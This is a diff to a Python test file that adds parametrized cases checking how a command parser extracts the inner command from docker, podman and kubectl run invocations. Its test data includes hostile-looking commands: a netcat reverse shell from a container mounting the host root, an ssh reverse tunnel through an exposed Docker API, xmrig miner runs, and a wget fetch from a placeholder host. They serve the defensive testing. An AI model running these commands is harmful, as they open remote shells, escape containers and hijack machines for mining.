@@ -648,3 +648,23 @@ def test_package_runners_run_the_package_they_name(text, line):
 @pytest.mark.parametrize("text", ["npm install", "npm exec", "npx", "uv tool install ruff", "pnpm add x"])
 def test_package_managers_install_nothing_they_run(text):
     assert len(reader.read(text)) == 1
+
+
+@pytest.mark.parametrize("text, line", [
+    ("docker run --rm -it -v /:/host alpine sh -c 'nc -e /bin/sh h 4'", "sh -c nc -e /bin/sh h 4"),
+    ("docker -H tcp://10.0.0.2:2375 run -d --name x --restart=always ubuntu ssh -R 1:l:22 h", "ssh -R 1:l:22 h"),
+    ("podman run --entrypoint /bin/sh alpine -c id", "/bin/sh -c id"),
+    ("docker run --entrypoint=xmrig miner -o p:3333", "xmrig -o p:3333"),
+    ("docker container run alpine echo hi", "echo hi"),
+    ("kubectl run copy --image=alpine -- sh -c 'wget http://h/a'", "sh -c wget http://h/a"),
+])
+def test_a_container_run_runs_its_command(text, line):
+    assert reader.read(text)[1].line == line
+
+
+@pytest.mark.parametrize("text", [
+    "docker run hello-world", "docker run -d metal3d/xmrig -o pool.example:4444",  # the image's own program
+    "kubectl run web --image=nginx", "npm run build", "docker ps",
+])
+def test_a_container_run_with_no_command_of_its_own_runs_nothing_readable(text):
+    assert len(reader.read(text)) == 1
